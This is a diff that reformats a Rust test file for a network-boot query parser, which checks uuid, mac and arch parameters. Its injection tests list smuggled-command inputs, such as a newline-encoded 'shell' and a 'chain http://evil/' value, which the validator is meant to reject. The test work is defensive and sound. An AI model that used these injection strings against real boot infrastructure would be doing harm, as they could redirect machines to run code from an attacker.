@@ -50,7 +50,10 @@ fn forms_and_optional_parts() {
 fn missing_uuid() {
     assert_eq!(parse(""), Err(QueryError::MissingUuid));
     assert_eq!(parse("mac=52-54-00-99-00-10"), Err(QueryError::MissingUuid));
-    assert_eq!(parse("uuid=&mac=52-54-00-99-00-10"), Err(QueryError::MissingUuid));
+    assert_eq!(
+        parse("uuid=&mac=52-54-00-99-00-10"),
+        Err(QueryError::MissingUuid)
+    );
     assert_eq!(parse("uuid"), Err(QueryError::MissingUuid));
     assert_eq!(QueryError::MissingUuid.to_string(), "missing uuid");
 }
@@ -77,7 +80,12 @@ fn bad_values() {
     ] {
         assert_eq!(parse(bad), Err(QueryError::InvalidUuid), "{bad}");
     }
-    for bad in ["52-54-00-99-00", "52-54:00-99-00-10", "525400990010", "zz-54-00-99-00-10"] {
+    for bad in [
+        "52-54-00-99-00",
+        "52-54:00-99-00-10",
+        "525400990010",
+        "zz-54-00-99-00-10",
+    ] {
         assert_eq!(
             parse(&format!("uuid={UUID}&mac={bad}")),
             Err(QueryError::InvalidMac),
@@ -111,7 +119,10 @@ fn injection_attempts() {
         (format!("uuid={UUID}&mac=52-54-00-99-00-10%0Ashell"), "mac"),
         (format!("uuid={UUID}&mac=${{net0/mac}}"), "mac"),
         (format!("uuid={UUID}&mac=52-54-00-99-00-10%7F"), "mac"),
-        (format!("uuid={UUID}&arch=x86_64%0Achain%20http://evil/"), "arch"),
+        (
+            format!("uuid={UUID}&arch=x86_64%0Achain%20http://evil/"),
+            "arch",
+        ),
         (format!("uuid={UUID}&arch=${{buildarch}}"), "arch"),
     ];
     for (q, param) in cases {
@@ -122,7 +133,10 @@ fn injection_attempts() {
         );
     }
     let err = parse(&format!("uuid={UUID}&mac=52-54-00-99-00-10%0Ashell")).unwrap_err();
-    assert_eq!(err.to_string(), "parameter mac: value contains forbidden characters");
+    assert_eq!(
+        err.to_string(),
+        "parameter mac: value contains forbidden characters"
+    );
 }
 
 #[test]
@@ -148,10 +162,15 @@ fn encoding_and_duplicates() {
 }
 
 fn check_accepted(q: &BootQuery) {
-    assert!(q.uuid.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f' | b'-')));
+    assert!(q
+        .uuid
+        .bytes()
+        .all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f' | b'-')));
     assert_eq!(q.uuid.len(), 36);
     if let Some(mac) = &q.mac {
-        assert!(mac.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f' | b':')));
+        assert!(mac
+            .bytes()
+            .all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f' | b':')));
         assert_eq!(mac.len(), 17);
     }
     if let Some(a) = q.arch {
